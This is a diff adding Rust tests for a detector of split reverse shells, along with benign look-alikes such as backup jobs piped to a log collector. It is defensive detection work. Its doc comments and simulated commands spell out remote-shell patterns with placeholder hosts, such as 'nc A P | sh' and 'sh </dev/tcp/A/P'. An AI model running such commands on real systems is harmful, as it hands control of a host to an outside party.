@@ -1,0 +1,194 @@
+//! Shells whose commands come from one peer and whose output goes to another one, and jobs that
+//! only resemble them.
+
+use super::*;
+
+/// `PF_FORKNOEXEC` (include/linux/sched.h)
+const FORKED: u32 = 0x40;
+const OTHER: (IpAddr, u16) = (IpAddr::V4(Ipv4Addr::new(198, 51, 100, 7)), 514);
+const IN: u16 = 40_000;
+const OUT: u16 = 40_001;
+/// Scans of 10 ms in which nothing happens between two commands.
+const REST: usize = 40;
+
+/// How a shell gets its input.
+#[derive(Clone, Copy, Debug, PartialEq)]
+enum Input {
+    /// `nc A P | sh`
+    Pipe,
+    /// `sh </dev/tcp/A/P`
+    Itself,
+    /// `nc -u A P | sh`
+    Datagram,
+    /// `nc A P >file & tail -f file | sh`
+    File,
+}
+
+/// What a shell does for a message.
+#[derive(Clone, Copy, Debug, PartialEq)]
+enum Act {
+    Process,
+    Builtin,
+    Nothing,
+}
+
+struct Job {
+    input: Input,
+    act: Act,
+    line: &'static str,
+    flags: u32,
+    /// Bytes that were sent to the first peer.
+    asked: u64,
+    /// Whether the shell has a child all the time, and whether its peer pauses.
+    is_busy: bool,
+    pauses: bool,
+    is_accepted: bool,
+    messages: u32,
+}
+
+const JOB: Job = Job {
+    input: Input::Pipe,
+    act: Act::Process,
+    line: "sh",
+    flags: 0,
+    asked: 0,
+    is_busy: false,
+    pauses: true,
+    is_accepted: false,
+    messages: 2,
+};
+
+impl Job {
+    fn machine(&self) -> Machine {
+        let mut machine = Machine::default();
+        if self.is_accepted {
+            machine.listener(IN);
+        }
+        let one = match self.input {
+            Input::Datagram => machine.datagram(IN, PEER),
+            _ => machine.connection(IN, PEER),
+        };
+        let other = machine.connection(OUT, OTHER);
+        let (in_read, in_write) = machine.pipe();
+        let (out_read, out_write) = machine.pipe();
+        let [into, from] = machine.relay([WRITE, READ], 1_000_000_000);
+        let input = if self.input == Input::Itself { &one } else { &in_read };
+        match self.input {
+            Input::Itself => {}
+            Input::File => {
+                machine.run(20, "nc", "nc A 4444", &[(1, &into), (3, &one)]);
+                machine.run(21, "tail", "tail -f file", &[(1, &in_write), (3, &from)]);
+            }
+            _ => machine.run(20, "nc", "nc A 4444", &[(1, &in_write), (3, &one)]),
+        }
+        machine.run(22, "dash", self.line, &[(0, input), (1, &out_write), (2, &out_write)]);
+        machine.run(23, "nc", "nc B 514", &[(0, &out_read), (3, &other)]);
+        machine.world.process(22).flags = self.flags;
+        if self.is_busy {
+            machine.run(30, "sleep", "sleep 999", &[(1, &out_write)]);
+            machine.world.process(30).parent = 22;
+        }
+        machine.counted.insert(IN, (self.asked, 0));
+        machine.counted.insert(OUT, (0, 0));
+        machine
+    }
+
+    /// What is found while the peer sends its messages.
+    fn found(&self) -> Vec<String> {
+        let mut machine = self.machine();
+        let mut watch = Watch::new();
+        let mut found = watch.settle(&machine);
+        for message in 0..self.messages {
+            let rest = if self.pauses { REST } else { 4 };
+            (0..rest).for_each(|_| found.extend(watch.scan(&machine)));
+            machine.counted.get_mut(&IN).unwrap().1 += 3;
+            found.extend(watch.scan(&machine));
+            let pid = 100 + message;
+            if self.act == Act::Process {
+                machine.run(pid, "id", "id", &[(0, &null()), (1, &null())]);
+                machine.world.process(pid).parent = 22;
+            }
+            found.extend(watch.scan(&machine));
+            machine.world.remove(pid);
+            if self.act != Act::Nothing {
+                machine.counted.get_mut(&OUT).unwrap().0 += 9;
+            }
+            found.extend(watch.scan(&machine));
+        }
+        found
+    }
+}
+
+const PIPES: &str = "Outbound 40000: 20,23,22 in 20>22 out 22>23 to 40001";
+
+#[test]
+fn a_shell_between_two_peers_is_reported() {
+    assert_eq!(JOB.found(), [PIPES]);
+    assert_eq!(Job { act: Act::Builtin, ..JOB }.found(), [PIPES]);
+    let itself = "Outbound 40000: 23,22 in 22 out 22>23 to 40001";
+    for act in [Act::Process, Act::Builtin] {
+        assert_eq!(Job { input: Input::Itself, act, ..JOB }.found(), [itself]);
+    }
+    // What was asked for, or comes over a connection that was accepted, needs a turn more.
+    let asked = Job { asked: 300, ..JOB };
+    assert_eq!(asked.found(), [""; 0]);
+    assert_eq!(Job { messages: 3, ..asked }.found(), [PIPES]);
+    let accepted = Job { is_accepted: true, ..JOB };
+    assert_eq!(accepted.found(), [""; 0]);
+    let expected = "Accepted 40000: 20,23,22 in 20>22 out 22>23 to 40001";
+    assert_eq!(Job { messages: 3, ..accepted }.found(), [expected]);
+}
+
+#[test]
+fn commands_by_another_protocol_are_reported() {
+    let datagrams = Job { input: Input::Datagram, ..JOB };
+    assert_eq!(datagrams.found(), [""; 0]);
+    let expected = ["Unknown 40000: 20,23,22 in 20>22 out 22>23 to 40001"];
+    for act in [Act::Process, Act::Builtin] {
+        assert_eq!(Job { messages: 3, act, ..datagrams }.found(), expected);
+    }
+}
+
+#[test]
+fn commands_by_a_file_that_a_peer_fills_are_reported() {
+    let file = Job { input: Input::File, ..JOB };
+    assert_eq!(file.found(), [""; 0]);
+    let expected = ["Outbound 40000: 20,21,23,22 in 20>21>22 out 22>23 to 40001"];
+    assert_eq!(Job { messages: 3, ..file }.found(), expected);
+}
+
+#[test]
+fn jobs_whose_log_goes_to_a_collector_raise_no_alert() {
+    // `curl … | sh | nc collector`: the script comes as fast as it is read.
+    for input in [Input::Pipe, Input::Datagram, Input::File] {
+        let job = Job { input, asked: 300, messages: 12, ..JOB };
+        assert_eq!(Job { pauses: false, ..job }.found(), [""; 0], "{input:?}: in pieces");
+        assert_eq!(Job { is_busy: true, ..job }.found(), [""; 0], "{input:?}: it runs a program");
+        let line = "sh backup.sh";
+        assert_eq!(Job { line, ..job }.found(), [""; 0], "{input:?}: it runs a script");
+        assert_eq!(Job { line: "sh -c x", ..job }.found(), [""; 0], "{input:?}: a command");
+        assert_eq!(Job { flags: FORKED, ..job }.found(), [""; 0], "{input:?}: while read");
+        assert_eq!(Job { act: Act::Nothing, ..job }.found(), [""; 0], "{input:?}: it waits");
+    }
+    assert_eq!(Job { messages: 1, ..JOB }.found(), [""; 0], "nc A P | sh: one script");
+}
+
+#[test]
+fn a_shell_that_does_something_by_itself_raises_no_alert() {
+    let job = Job { asked: 300, ..JOB };
+    let mut machine = job.machine();
+    let mut watch = Watch::new();
+    assert_eq!(watch.settle(&machine), [""; 0]);
+    for round in 0..12_u32 {
+        let mut found = Vec::new();
+        (0..REST).for_each(|_| found.extend(watch.scan(&machine)));
+        // A status now and then, and a message between two of them.
+        machine.counted.get_mut(&OUT).unwrap().0 += 9;
+        found.extend(watch.scan(&machine));
+        (0..REST).for_each(|_| found.extend(watch.scan(&machine)));
+        machine.counted.get_mut(&IN).unwrap().1 += u64::from(round % 2);
+        machine.counted.get_mut(&OUT).unwrap().0 += 9;
+        found.extend(watch.scan(&machine));
+        assert_eq!(found, [""; 0]);
+    }
+}
